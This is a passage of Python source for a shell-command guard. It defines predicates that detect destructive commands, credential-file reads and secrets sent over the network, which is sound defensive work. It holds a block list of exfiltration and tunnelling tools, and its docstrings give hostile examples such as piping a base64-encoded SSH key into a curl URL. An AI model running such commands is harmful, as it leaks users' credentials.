"""Condition predicates for bash rules: they look at one derived command (a unit) and,
where needed, at the pipeline and the whole command around it.
"""

from __future__ import annotations

import os
import posixpath
import re
from collections.abc import Callable, Iterable, Sequence
from typing import TypeVar, cast

from ..config.load import Config
from ..rules.vocabulary import Check, PredicateSpec
from ..shell import TargetKind, classify_path, operands
from ..shell.flows import referenced_names, refers_to
from ..shell.model import SUBSTITUTIONS, Segment, ShellAnalysis
from ..shell.options import COMMAND_OPTIONS, EMPTY, GIT_GLOBAL_WITH_VALUE, git_settings, option_value
from .bash_targets import (
    GIT_DIR,
    KINDS,
    PROJECT_ROOT,
    extraction_kinds,
    find_deletes,
    git_pathspec,
    git_subcommand_index,
    move_destination,
    program_source,
    reads_program_from_stdin,
    removed_sources,
    resolve,
    served_directory,
    served_kinds,
    sync_deletions,
    tar_archives,
    target_kinds,
)
from .credential_commands import prints_credential
from .families.base import Subject
from .families.bash import BashView, assignments
from .predicates import guard_dirs, is_guard_file
from .secret_paths import absolute, holds_secret_path, is_secret_path

GIT_OPTIONS_WITH_VALUE = GIT_GLOBAL_WITH_VALUE  # git's global options that take a value
BASH = frozenset({"bash"})
BASH_PREDICATES: dict[str, PredicateSpec] = {}
Builder = Callable[[tuple[str, ...], Config], Check]

NETWORK_SINKS = frozenset(
    {
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "ssh",
        "scp",
        "sftp",
        "rsync",
        "ftp",
        "tftp",
        "telnet",
        "http",
        "https",
        "xh",
        "aria2c",
        "lftp",
        "smbclient",
        "rclone",
        "gsutil",
        "s3cmd",
        "dnscat",
        "dnscat2",
        "iodine",
        "sendmail",
        "mail",
        "mutt",
        # Lookups that carry data in the name they ask for (DNS and ICMP tunnels).
        "dig",
        "nslookup",
        "host",
        "drill",
        "ping",
        "ping6",
        "whois",
        "finger",
        # The forge's client uploads gists, release assets and bodies.
        "gh",
        "glab",
    }
)
# openssl's subcommands that talk to a host; the rest work on files (`openssl enc -in f`).
OPENSSL_NETWORK = frozenset({"s_client", "s_server", "s_time", "ocsp"})
HEADER_OPTIONS = frozenset({"-H", "--header", "--proxy-header", "--header-file"})
ENV_DUMPERS = frozenset({"env", "printenv", "set", "export", "declare", "typeset", "compgen"})


def _spec(name: str, doc: str, args: tuple[int, int | None] = (0, 0)) -> Callable[[Builder], Builder]:
    def register(build: Builder) -> Builder:
        BASH_PREDICATES[name] = PredicateSpec(name, BASH, args[0], args[1], build, doc)
        return build

    return register


def _view(subject: Subject) -> BashView:
    view = subject.prepared
    assert isinstance(view, BashView)
    return view


def _segment(subject: Subject) -> Segment | None:
    return subject.unit if isinstance(subject.unit, Segment) else None


T = TypeVar("T")


def _once(subject: Subject, key: object, compute: Callable[[], T]) -> T:
    """A fact about the whole command string, the same for every command of it: computed
    on first use in an evaluation and kept in the view's memo, not again for each command."""
    memo = _view(subject).memo
    if key not in memo:
        memo[key] = compute()
    return cast(T, memo[key])


def _index(subject: Subject) -> int:
    return _view(subject).index_of(subject.unit)


def _pipeline_indices(subject: Subject) -> Sequence[int]:
    """The positions of the commands in the unit's pipeline (itself included)."""
    return _view(subject).pipeline_of(_index(subject))


def _names(args: tuple[str, ...]) -> Callable[[str], bool]:
    exact = frozenset(a for a in args if not a.endswith("*"))
    prefixes = tuple(a[:-1] for a in args if a.endswith("*"))
    return lambda name: name in exact or (bool(prefixes) and name.startswith(prefixes))


# -- the command itself -----------------------------------------------------------------


@_spec("name", "the command's name is one of the arguments (a trailing * matches a prefix)", (1, None))
def _name(args: tuple[str, ...], config: Config) -> Check:
    matches = _names(args)
    return lambda s: (seg := _segment(s)) is not None and matches(seg.name)


def option_words(segment: Segment) -> list[str]:
    """The words before `--` that look like options; for git, the subcommand's options."""
    start = 1
    if segment.name == "git":
        index = git_subcommand_index(segment)
        start = len(segment.argv) if index is None else index + 1
    words = []
    for word in segment.argv[start:]:
        if word == "--":
            break
        if word.startswith("-") and len(word) > 1:
            words.append(word)
    return words


def _long_matches(word: str, flag: str) -> bool:
    """`--hard`, `--hard=x`, or an abbreviation such as `--ha` (getopt_long and git take
    any unambiguous prefix; an ambiguous one is an error, so matching it costs nothing)."""
    if word == flag or word.startswith(flag + "="):
        return True
    return len(word) > 2 and "=" not in word and flag.startswith(word)


# Short options of git subcommands that take a value: in `-bfeature` the f is the value's.
GIT_VALUE_LETTERS = {
    "checkout": "bB",
    "switch": "cC",
    "commit": "mFcCt",
    "tag": "mFu",
    "branch": "t",
    "push": "o",
    "clean": "e",
    "restore": "s",
    "stash": "m",
}


def _value_letters(segment: Segment) -> str:
    if segment.name == "git":
        return GIT_VALUE_LETTERS.get(git_subcommand(segment) or "", "")
    return "".join(COMMAND_OPTIONS.get(segment.name, EMPTY).short)


def _cluster(word: str, value_letters: str) -> str:
    """The option letters of `-xyz`, up to the first one whose value follows it."""
    letters = word[1:]
    for pos, letter in enumerate(letters):
        if letter in value_letters:
            return letters[: pos + 1]
    return letters


def has_flag(segment: Segment, flag: str) -> bool:
    words = option_words(segment)
    if flag.startswith("--"):
        return any(_long_matches(w, flag) for w in words if w.startswith("--"))
    if len(flag) != 2:  # a one-dash long option such as find's -delete
        return flag in words
    letter, values = flag[1], _value_letters(segment)
    # Letters up to a value's start: in `-Bnew-branch` the cluster is `B`.
    clusters = (_cluster(w, values) for w in words if not w.startswith("--"))
    return flag in words or any(letter in cluster for cluster in clusters if cluster.isalpha())


@_spec("flag", "one of the options is given (-rf counts as -r and -f; --x=v as --x)", (1, None))
def _flag(args: tuple[str, ...], config: Config) -> Check:
    for arg in args:
        if not arg.startswith("-") or arg in ("-", "--"):
            raise ValueError(f"{arg!r} is not an option such as -r or --force")
    return lambda s: (seg := _segment(s)) is not None and any(has_flag(seg, a) for a in args)


@_spec("arg", "one of the arguments is exactly one of these words", (1, None))
def _arg(args: tuple[str, ...], config: Config) -> Check:
    words = frozenset(args)
    return lambda s: (seg := _segment(s)) is not None and any(w in words for w in seg.argv[1:])


@_spec("arg_prefix", "an operand starts with one of these prefixes (e.g. + for a forced refspec)", (1, None))
def _arg_prefix(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and any(o.startswith(args) for o in operands(seg))


def git_subcommand(segment: Segment) -> str | None:
    index = git_subcommand_index(segment)
    return None if index is None else segment.argv[index]


@_spec("git", "the command is git with one of these subcommands (after -C, -c and other globals)", (1, None))
def _git(args: tuple[str, ...], config: Config) -> Check:
    subcommands = frozenset(args)
    return lambda s: (seg := _segment(s)) is not None and git_subcommand(seg) in subcommands


# -- what it touches ------------------------------------------------------------------------


def _kinds(args: tuple[str, ...]) -> frozenset[str]:
    unknown = [a for a in args if a not in KINDS]
    if unknown:
        raise ValueError(f"unknown target kind {unknown[0]!r}; kinds are {', '.join(sorted(KINDS))}")
    return frozenset(args)


@_spec(
    "target",
    "a path operand is one of: root, home, system, device, outside, project, temp, unknown, "
    "project_root (the project itself or all of it), git_dir (its history)",
    (1, None),
)
def _target(args: tuple[str, ...], config: Config) -> Check:
    return _kinds_check(args, lambda subject, segments, index: target_kinds(segments, index, subject.event))


KindsOf = Callable[[Subject, "tuple[Segment, ...]", int], "set[str]"]


def _kinds_check(args: tuple[str, ...], kinds_of: KindsOf) -> Check:
    """True when `kinds_of` the command being tested meets one of the kinds in `args`."""
    kinds = _kinds(args)

    def check(subject: Subject) -> bool:
        index = _index(subject)
        if index < 0:
            return False
        return not kinds.isdisjoint(kinds_of(subject, _view(subject).analysis.segments, index))

    return check


@_spec(
    "removes_from",
    "mv, or an archiver deleting what it archives (tar --remove-files, zip -m, 7z -sdel), takes "
    "away a path of one of the target kinds",
    (1, None),
)
def _removes_from(args: tuple[str, ...], config: Config) -> Check:
    return _kinds_check(args, removed_kinds)


def removed_kinds(subject: Subject, segments: tuple[Segment, ...], index: int) -> set[str]:
    """The kinds of what the command takes away. The whole project moved to a directory
    inside it (`mv * app/`) is a restructuring: it stays in the project."""
    segment = segments[index]
    sources = removed_sources(segment)
    if sources is None:
        return set()
    found = target_kinds(segments, index, subject.event, sources)
    destination = move_destination(segment)
    if destination is not None and _path_kind(subject, destination, segment.cwd) is TargetKind.PROJECT:
        found -= {PROJECT_ROOT, GIT_DIR}
    return found


@_spec(
    "sync_deletes_in",
    "a sync deletes the files of a directory of one of the target kinds (rsync --delete at its "
    "destination, --remove-source-files at its sources, rclone sync, move, delete, purge)",
    (1, None),
)
def _sync_deletes_in(args: tuple[str, ...], config: Config) -> Check:
    return _kinds_check(args, synced_away_kinds)


def synced_away_kinds(subject: Subject, segments: tuple[Segment, ...], index: int) -> set[str]:
    emptied = sync_deletions(segments[index])
    return target_kinds(segments, index, subject.event, emptied) if emptied else set()


@_spec("extracts_to", "an archive is unpacked into a directory of one of the target kinds", (1, None))
def _extracts_to(args: tuple[str, ...], config: Config) -> Check:
    kinds = _kinds(args)
    return lambda s: (seg := _segment(s)) is not None and not kinds.isdisjoint(extraction_kinds(seg, s.event))


@_spec("find_deletes", "find itself deletes what it finds (-delete, not an -exec command's word)")
def _find_deletes(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and seg.name == "find" and find_deletes(seg)


@_spec("git_pathspec", "git checkout is given paths (after --, a second operand, ., or from a file)")
def _git_pathspec(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and git_pathspec(seg)


@_spec("no_target", "the command has no path operand at all")
def _no_target(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and not operands(seg) and not seg.implicit_targets


def _path_kind(subject: Subject, path: str, cwd: str | None) -> TargetKind:
    """The kind of a path used in a directory `cwd`; None means after a `cd` to somewhere
    unknown, so a relative path is unknown too."""
    event = subject.event
    return classify_path(path, cwd=cwd, home=event.home, project_dir=event.project_dir)


@_spec("serves", "a one-line file server publishes a directory of one of the target kinds", (1, None))
def _serves(args: tuple[str, ...], config: Config) -> Check:
    kinds = _kinds(args)
    return lambda s: (seg := _segment(s)) is not None and not kinds.isdisjoint(served_kinds(seg, s.event))


@_spec(
    "git_sets",
    "git is given one of these settings (in any case): `git -c KEY=VALUE …` or `git config KEY VALUE`",
    (1, None),
)
def _git_sets(args: tuple[str, ...], config: Config) -> Check:
    keys = frozenset(a.lower() for a in args)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None or seg.name != "git":
            return False
        return any(key.lower() in keys for key, _ in git_settings(seg.argv[1:]))

    return check


@_spec(
    "hooks_path",
    "git -c or git config points core.hooksPath at a directory of one of the target kinds (any, without)",
    (0, None),
)
def _hooks_path(args: tuple[str, ...], config: Config) -> Check:
    kinds = _kinds(args)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None or seg.name != "git":
            return False
        values = [value for key, value in git_settings(seg.argv[1:]) if key.lower() == "core.hookspath"]
        return any(not kinds or _path_kind(subject, value, seg.cwd).value in kinds for value in values)

    return check


@_spec("redirect_to", "output is redirected to a path of one of the target kinds", (1, None))
def _redirect_to(args: tuple[str, ...], config: Config) -> Check:
    kinds = _kinds(args)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None:
            return False
        for redirect in seg.redirects:
            if ">" not in redirect.op or redirect.target in ("/dev/null", "/dev/stdout", "/dev/stderr"):
                continue
            if redirect.target.startswith("&") or redirect.target.isdigit():
                continue
            if _path_kind(subject, redirect.target, seg.cwd).value in kinds:
                return True
        return False

    return check


# -- how it is reached ----------------------------------------------------------------------


@_spec("wrapped", "the command was wrapped by one of these (sudo, env, timeout, xargs, ...)", (1, None))
def _wrapped(args: tuple[str, ...], config: Config) -> Check:
    names = frozenset(args)
    return lambda s: (seg := _segment(s)) is not None and not names.isdisjoint(seg.wrappers)


@_spec("privileged", "the command runs as root (sudo, doas, su -c, pkexec, run0)")
def _privileged(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and seg.privileged


@_spec("dynamic", "the command's name is built at run time ($x, $(...), ${...})")
def _dynamic(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and seg.dynamic


@_spec(
    "context",
    "the command is reached through one of: top, subst, procsub, shell-c, eval, heredoc, "
    "xargs, find-exec, parallel, watch, trap, interpreter, source",
    (1, None),
)
def _context(args: tuple[str, ...], config: Config) -> Check:
    contexts = frozenset(args)
    return lambda s: (seg := _segment(s)) is not None and seg.context in contexts


@_spec("depth_exceeded", "code was nested in strings deeper than the analysis follows")
def _depth_exceeded(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: _view(s).analysis.depth_exceeded


@_spec("analysis_failed", "the guard's own analysis of the command broke (a bug): nothing was derived")
def _analysis_failed(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: _view(s).analysis.failed


@_spec("parse_failed", "the command is not valid shell syntax")
def _parse_failed(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: not _view(s).analysis.parse_ok


# -- environment ---------------------------------------------------------------------------


@_spec("assigns", "the command sets one of these variables (FOO=1 cmd, export FOO=1)", (1, None))
def _assigns(args: tuple[str, ...], config: Config) -> Check:
    names = frozenset(args)
    return lambda s: (seg := _segment(s)) is not None and any(n in names for n, _ in assignments(seg))


KNOWN_PREFIXES = ("$HOME", "${HOME}", "$PWD", "${PWD}", "$TMPDIR", "${TMPDIR}")


def _value_paths(value: str) -> Iterable[str]:
    """Path-like parts of a variable's value: ':'-separated entries and option values.

    Entries that start with any other variable (`$PATH`, `${NODE_PATH}`) are the variable's
    previous value or unknown at analysis time, and are not judged.
    """
    for part in value.replace(":", " ").replace("=", " ").split():
        part = part.strip("'\"")
        if part.startswith("-"):
            part = _attached_path(part)  # `RUBYOPT=-r/tmp/x.rb`, `PERL5OPT=-I/tmp/lib`
        if not part:
            continue
        if part.startswith("$") and not part.startswith(KNOWN_PREFIXES):
            continue
        yield part


def _attached_path(option: str) -> str:
    """The path written onto a short option (`-r/tmp/x.rb` gives `/tmp/x.rb`, and
    `-rbundler/setup` the relative `bundler/setup`), else ''."""
    if option.startswith("--") or "/" not in option:
        return ""
    return option[2:]


def _assignment_outside(
    subject: Subject, segment: Segment, names: frozenset[str], allowed: frozenset[str]
) -> bool:
    cwd = segment.cwd or subject.event.cwd
    for name, value in assignments(segment):
        if name not in names:
            continue
        for path in _value_paths(value):
            path = path.replace("$PWD", cwd).replace("${PWD}", cwd)
            if _path_kind(subject, path, cwd).value not in allowed:
                return True
    return False


@_spec(
    "assigns_outside_project",
    "one of these variables gets a path outside the project "
    "(system directories and $VAR self-references are fine)",
    (1, None),
)
def _assigns_outside_project(args: tuple[str, ...], config: Config) -> Check:
    names = frozenset(args)
    allowed = frozenset({TargetKind.PROJECT.value, TargetKind.SYSTEM.value})
    return lambda s: (seg := _segment(s)) is not None and _assignment_outside(s, seg, names, allowed)


@_spec(
    "assigns_path", "the variable named first gets a path of one of the target kinds that follow", (2, None)
)
def _assigns_path(args: tuple[str, ...], config: Config) -> Check:
    names = frozenset({args[0]})
    bad = _kinds(args[1:])
    allowed = frozenset(kind.value for kind in TargetKind) - bad
    return lambda s: (seg := _segment(s)) is not None and _assignment_outside(s, seg, names, allowed)


def _secret_refs(config: Config) -> tuple[str, ...]:
    names = config.strings("secrets.env_vars")
    return tuple(f"${n}" for n in names) + tuple("${" + n for n in names)


# Options whose value a client sends as credentials, to the server it contacts, as it
# would an Authorization header: `curl -u user:$TOKEN`, `wget --password=…`, `http -a`.
CREDENTIAL_OPTIONS = {
    "curl": ("-u", "--user", "--oauth2-bearer"),
    "wget": ("--password", "--http-password"),
    "http": ("-a", "--auth"),
    "https": ("-a", "--auth"),
}


def payload_words(segment: Segment) -> list[str]:
    """Arguments that leave the machine as URL or body: everything but header values
    and credentials."""
    private = HEADER_OPTIONS.union(CREDENTIAL_OPTIONS.get(segment.name, ()))
    words = []
    skip = False
    for word in segment.argv[1:]:
        if skip:
            skip = False
            continue
        if word in private:
            skip = True
            continue
        head = word.split("=", 1)[0] if word.startswith("--") else word[:2]
        if head in private and head != word:  # `--header=…`, `-Hx`, `-uuser:pass`
            continue
        words.append(word)
    return words


@_spec(
    "sends_secret_env",
    "a network command carries a secret variable ([secrets] env_vars) in its URL "
    "or body (headers are where tokens belong)",
)
def _sends_secret_env(args: tuple[str, ...], config: Config) -> Check:
    refs = _secret_refs(config)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None or not refs or not is_network_sink(seg):
            return False
        return any(ref in word for word in payload_words(seg) for ref in refs)

    return check


@_spec(
    "pipeline_prints_secret_env",
    "a command in the same pipeline writes a secret variable ([secrets] env_vars) to the "
    "pipe (`echo $TOKEN |`, `printenv TOKEN |`, a here-string); logging in to the forge "
    "that issued it (`gh auth login --with-token`) is not counted",
)
def _pipeline_prints_secret_env(args: tuple[str, ...], config: Config) -> Check:
    names = frozenset(config.strings("secrets.env_vars"))
    refs = _secret_refs(config)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None or not refs or seg.argv[1:3] == ("auth", "login"):
            return False
        return any(_prints_secret(m, names, refs) for m in _pipeline_members(subject))

    return check


PRINTERS = frozenset({"echo", "printf"})


def _expanding_text(source: str) -> str:
    """`source` without its single-quoted strings, where bash expands nothing (`echo
    '$TOKEN'` prints the name). A single quote inside double quotes is just a character."""
    out: list[str] = []
    i, double = 0, False
    while i < len(source):
        ch = source[i]
        if ch == "\\":
            out.append(source[i : i + 2])
            i += 2
            continue
        if ch == "'" and not double:
            end = source.find("'", i + 1)
            if end < 0:
                break
            i = end + 1
            continue
        if ch == '"':
            double = not double
        out.append(ch)
        i += 1
    return "".join(out)


def _mentions(texts: Iterable[str], refs: tuple[str, ...]) -> bool:
    return any(ref in text for text in texts for ref in refs)


def _prints_secret(
    segment: Segment, names: frozenset[str], refs: tuple[str, ...], *, parts: bool = True
) -> bool:
    """The command writes a secret variable to its output. Without `parts`, a short part
    of one (`${X:0:4}`) or a word in its place (`${X:+set}`) does not count: enough to
    tell a key is set, too little to use it. Sent anywhere, any part counts (a token can
    go out a few characters at a time)."""
    if segment.name in PRINTERS:
        words, expanded = list(segment.argv[1:]), _expanding_text(segment.source)
        if not parts:
            words, expanded = [_SHORT_PART.sub("", w) for w in words], _SHORT_PART.sub("", expanded)
        return _mentions(words, refs) and _mentions((expanded,), refs)
    if segment.name == "printenv":
        return any(word in names for word in segment.argv[1:])
    text = segment.stdin_text
    # One pass over what is fed in (a heredoc may be large), not one per secret's name.
    return text is not None and "$" in text and not names.isdisjoint(referenced_names(text))


# At most 8 characters of a variable (`${X:0:4}`, `${X: -4}`), or a word in its place.
_SHORT_PART = re.compile(r"\$\{[A-Za-z_]\w*:(?:\+[^}]*|\s*-?\d+:[1-8]|\s*-[1-8])\}")


@_spec(
    "prints_secret_env",
    "the command writes a secret variable ([secrets] env_vars) to its output (`echo $TOKEN`, "
    "`printenv TOKEN`, a here-string); up to 8 characters of it (`${TOKEN:0:4}`) do not count",
)
def _prints_secret_env(args: tuple[str, ...], config: Config) -> Check:
    names = frozenset(config.strings("secrets.env_vars"))
    refs = _secret_refs(config)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        return seg is not None and bool(refs) and _prints_secret(seg, names, refs, parts=False)

    return check


@_spec("mentions_secret_env", "the command mentions a secret variable ([secrets] env_vars) anywhere")
def _mentions_secret_env(args: tuple[str, ...], config: Config) -> Check:
    refs = _secret_refs(config)
    return lambda s: (seg := _segment(s)) is not None and any(r in seg.text for r in refs)


# -- data flow: secrets, the network, pipelines ---------------------------------------------


REMOTE_COPIERS = frozenset({"rsync", "scp"})
REMOTE_OPERAND = re.compile(r"^([\w.-]+@)?[\w.-]+:|^[a-z]+://")


def is_network_sink(segment: Segment) -> bool:
    if segment.name in REMOTE_COPIERS:  # `rsync a b` copies on this machine
        return any(REMOTE_OPERAND.match(word) for word in operands(segment))
    if segment.name in NETWORK_SINKS:
        return True
    if segment.name == "openssl":
        return any(word in OPENSSL_NETWORK for word in segment.argv[1:2])
    if segment.name in ("tar", "gtar") and "--force-local" not in segment.argv:
        return any(REMOTE_OPERAND.match(f) for f in tar_archives(segment.argv))  # `tar cf host:k.tar …`
    return any(r.target.startswith(("/dev/tcp/", "/dev/udp/")) for r in segment.redirects)


def reads_kind(subject: Subject, index: int, kinds: frozenset[str]) -> bool:
    """The command at `index` reads a file of one of the target kinds."""
    view = _view(subject)
    segment = view.segment_at(index)
    cwd = segment.cwd if segment else None
    return any(_path_kind(subject, use.path, cwd).value in kinds for use in view.reads_of(index))


@_spec("pipeline_reads", "a command in the same pipeline reads a file of one of the target kinds", (1, None))
def _pipeline_reads(args: tuple[str, ...], config: Config) -> Check:
    kinds = _kinds(args)

    def check(subject: Subject) -> bool:
        return any(reads_kind(subject, i, kinds) for i in _pipeline_indices(subject))

    return check


def is_env_dump(segment: Segment) -> bool:
    if segment.name not in ENV_DUMPERS:
        return False
    if segment.name in ("env", "printenv"):
        return True
    rest = segment.argv[1:]
    return not rest or rest[0] in ("-p", "-x", "-e")


def _pipeline_members(subject: Subject) -> list[Segment]:
    seg = _segment(subject)
    view = _view(subject)
    if seg is None or not (0 <= seg.pipeline < len(view.analysis.pipelines)):
        return [seg] if seg is not None else []
    return [view.analysis.segments[i] for i in view.analysis.pipelines[seg.pipeline]]


# Readers that take a directory whole: a directory above a credential file counts.
WHOLE_TREE_READERS = frozenset({"tar", "zip", "rsync", "scp", "gh", "cpio"})


def _secret_path(
    subject: Subject, path: str, cwd: str | None, sensitive: tuple[str, ...], via: str = ""
) -> bool:
    event = subject.event
    full = absolute(path, cwd=cwd or event.cwd, home=event.home)
    if is_secret_path(full, home=event.home, sensitive=sensitive):
        return True
    return via in WHOLE_TREE_READERS and holds_secret_path(full, home=event.home, sensitive=sensitive)


def secret_readers(subject: Subject, sensitive: tuple[str, ...]) -> frozenset[int]:
    """Indices of the commands that read a credential file. A link made earlier in the
    same string (`ln -s ~/.ssh/id_rsa k; cat k`) is read as what it points at."""
    return _once(subject, ("secret-readers", sensitive), lambda: _find_secret_readers(subject, sensitive))


def _find_secret_readers(subject: Subject, sensitive: tuple[str, ...]) -> frozenset[int]:
    view = _view(subject)
    readers = set()
    for use in view.analysis.reads:
        segment = view.segment_at(use.segment)
        cwd = segment.cwd if segment else None
        path = through_links(subject, use.segment, use.path, cwd)
        if use.segment not in readers and _secret_path(subject, path, cwd, sensitive, use.via):
            readers.add(use.segment)
    analysis = view.analysis
    if (analysis.writes or analysis.flows) and (readers or any(is_env_dump(s) for s in analysis.segments)):
        _spread(subject, readers)
    return frozenset(readers)


def through_links(subject: Subject, index: int, path: str, cwd: str | None) -> str:
    """`path`, read by the command at `index`, with a link made before it replaced by its
    target (the latest such link: for the path itself, or for a directory above it)."""
    links = _once(subject, "links", lambda: _links(subject))
    if not links:
        return path
    full = absolute(path, cwd=cwd or subject.event.cwd, home=subject.event.home)
    place = full
    while place:
        for made, target in reversed(links.get(place, ())):
            if made < index:
                return target + full[len(place) :]
        place = place.rpartition("/")[0]
    return path


def _links(subject: Subject) -> dict[str, list[tuple[int, str]]]:
    """By link (an absolute path), the (index, target) of each `ln` that made it: `ln [-s]
    T L`, `ln T... DIR/` and `ln -t DIR T...` (each link in DIR, by T's name), `ln T` (in
    the working directory)."""
    event = subject.event
    found: dict[str, list[tuple[int, str]]] = {}
    for index, segment in enumerate(_view(subject).analysis.segments):
        if segment.name != "ln" or segment.cwd is None:
            continue
        names = operands(segment)
        if not names:
            continue
        directory = option_value(segment.argv, "t", "target-directory", COMMAND_OPTIONS["ln"])
        if directory:  # `ln -st DIR T...`
            targets, place, into = names, directory[-1], True
        else:
            targets, place = (names, ".") if len(names) == 1 else (names[:-1], names[-1])
            into = len(names) != 2 or place.endswith("/") or place == "."
        for target in targets:
            full = absolute(target, cwd=segment.cwd, home=event.home)
            link = posixpath.join(place, posixpath.basename(full)) if into else place
            found.setdefault(absolute(link, cwd=segment.cwd, home=event.home), []).append((index, full))
    return found


def _spread(subject: Subject, readers: set[int]) -> None:
    """Add to `readers` the commands that get what a reader read: through a file it wrote
    or a variable it set, and on from there (a variable copied to a file, ...)."""
    analysis = _view(subject).analysis
    for _ in range(4):
        before = len(readers)
        if analysis.writes:
            _add_readers_of_copies(subject, readers)
        for flow in analysis.flows:  # in receiver order: a chain of variables is followed
            if flow.receiver not in readers and _carries(analysis, readers, flow.source, dumps=False):
                readers.add(flow.receiver)
        if len(readers) == before:
            return


def _carries(analysis: ShellAnalysis, readers: set[int], index: int, *, dumps: bool) -> bool:
    """The command's output holds a secret: it or an earlier stage of its pipeline reads
    one (or, with `dumps`, prints the environment)."""
    segments = analysis.segments
    seg = segments[index]
    if index in readers or (dumps and is_env_dump(seg)):
        return True
    if not 0 <= seg.pipeline < len(analysis.pipelines):
        return False
    return any(
        i in readers or (dumps and is_env_dump(segments[i]))
        for i in analysis.pipelines[seg.pipeline]
        if segments[i].position < seg.position
    )


def _add_readers_of_copies(subject: Subject, readers: set[int]) -> None:
    """A file written with a secret in it (`cp .env /tmp/x`, `env > /tmp/e`,
    `base64 .env > f`) holds the secret for every later command of the same string that
    reads it: add those commands to `readers`."""
    analysis = _view(subject).analysis
    segments, event = analysis.segments, subject.event

    def key(segment_index: int, path: str) -> str:
        cwd = segments[segment_index].cwd or event.cwd
        return absolute(path, cwd=cwd, home=event.home)

    uses = [(u.segment, 0, u.path) for u in analysis.reads]
    uses += [(u.segment, 1, u.path) for u in analysis.writes]
    copies: dict[str, int] = {}  # file -> the command that wrote a secret into it
    for index, is_write, path in sorted(uses):  # a command's reads before its writes
        if is_write:
            if _carries(analysis, readers, index, dumps=True):
                copies.setdefault(key(index, path), index)
        elif copies.get(key(index, path), index) < index:
            readers.add(index)


def reads_secret(subject: Subject, index: int, sensitive: tuple[str, ...]) -> bool:
    return index in secret_readers(subject, sensitive)


def _sensitive(config: Config) -> tuple[str, ...]:
    return config.strings("paths.sensitive")


@_spec("reads_secret", "the command reads a credential file (paths.sensitive, .env, keys, ...)")
def _reads_secret(args: tuple[str, ...], config: Config) -> Check:
    sensitive = _sensitive(config)
    return lambda s: reads_secret(s, _index(s), sensitive)


@_spec("network_sink", "the command sends data over the network (curl, nc, ssh, /dev/tcp, ...)")
def _network_sink(args: tuple[str, ...], config: Config) -> Check:
    return lambda s: (seg := _segment(s)) is not None and is_network_sink(seg)


@_spec("pipeline_reads_secret", "a command in the same pipeline reads a credential file")
def _pipeline_reads_secret(args: tuple[str, ...], config: Config) -> Check:
    sensitive = _sensitive(config)

    def check(subject: Subject) -> bool:
        return any(reads_secret(subject, i, sensitive) for i in _pipeline_indices(subject))

    return check


_MAX_ENTRIES = 4096  # of one directory, looked through for a credential file
# Each tool's own ways of leaving files out (`-x` is zip's; to rsync it means one file
# system, to tar extract).
_EXCLUDING = {
    "tar": ("--exclude", "-X"),
    "gtar": ("--exclude", "-X"),
    "bsdtar": ("--exclude", "-X"),
    "zip": ("--exclude", "-x"),
    "rsync": ("--exclude", "--filter", "-f"),
}


def _excludes_something(segment: Segment) -> bool:
    options = _EXCLUDING.get(segment.name, ())
    return any(w.startswith(options) for w in segment.argv[1:]) if options else False


def _holds_secret_file(directory: str, home: str, sensitive: tuple[str, ...]) -> bool:
    """`directory` has a credential file (`.env`, a private key) at its top level, on disk."""
    try:
        with os.scandir(directory) as entries:
            for count, entry in enumerate(entries):
                if count >= _MAX_ENTRIES:
                    break
                if is_secret_path(posixpath.join(directory, entry.name), home=home, sensitive=sensitive):
                    return True
    except (OSError, ValueError):
        return False
    return False


@_spec(
    "pipeline_reads_secret_tree",
    "a command in the same pipeline archives or copies (tar, zip, rsync, scp) a directory that "
    "holds a credential file at its top level, looked up on disk, with nothing excluded",
)
def _pipeline_reads_secret_tree(args: tuple[str, ...], config: Config) -> Check:
    sensitive = _sensitive(config)

    def check(subject: Subject) -> bool:
        view, event = _view(subject), subject.event
        for index in _pipeline_indices(subject):
            seg = view.segment_at(index)
            if seg is None or _excludes_something(seg):
                continue  # what is left out is the user's choice
            for use in view.reads_of(index):
                if use.via not in WHOLE_TREE_READERS:
                    continue
                full = absolute(use.path, cwd=seg.cwd or event.cwd, home=event.home)
                if _holds_secret_file(full, event.home, sensitive):
                    return True
        return False

    return check


_LOOPBACK = ("127.0.0.1", "localhost", "::1")


@_spec(
    "serves_secret_files",
    "a one-line file server publishes a directory holding a credential file at its top level "
    "(`.env`, a key; looked up on disk), on every interface: not bound to 127.0.0.1, localhost or ::1",
)
def _serves_secret_files(args: tuple[str, ...], config: Config) -> Check:
    sensitive = _sensitive(config)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        directory = served_directory(seg) if seg is not None else None
        if seg is None or directory is None or any(a in w for w in seg.argv[1:] for a in _LOOPBACK):
            return False
        event = subject.event
        full = absolute(directory, cwd=seg.cwd or event.cwd, home=event.home)
        return _holds_secret_file(full, event.home, sensitive)

    return check


@_spec(
    "argument_reads_secret",
    "a command substitution in this command's words reads a credential file "
    "(`curl https://x/$(base64 ~/.ssh/id_rsa)`)",
)
def _argument_reads_secret(args: tuple[str, ...], config: Config) -> Check:
    sensitive = _sensitive(config)

    def check(subject: Subject) -> bool:
        seg = _segment(subject)
        if seg is None:
            return False
        segments = _view(subject).analysis.segments
        return any(_substituted(segments[i], seg) for i in secret_readers(subject, sensitive))

    return check


def _substituted(inner: Segment, outer: Segment) -> bool:
    """`inner` runs in a `$(...)` (or `<(...)`) in `outer`'s words: its output is part of them."""
    return inner is not outer and inner.context in SUBSTITUTIONS and inner.source in outer.source


def _substituted_into(subject: Subject, seg: Segment) -> list[Segment]:
    """The commands whose words hold `seg`'s output."""
    if seg.context not in SUBSTITUTIONS:
        return []
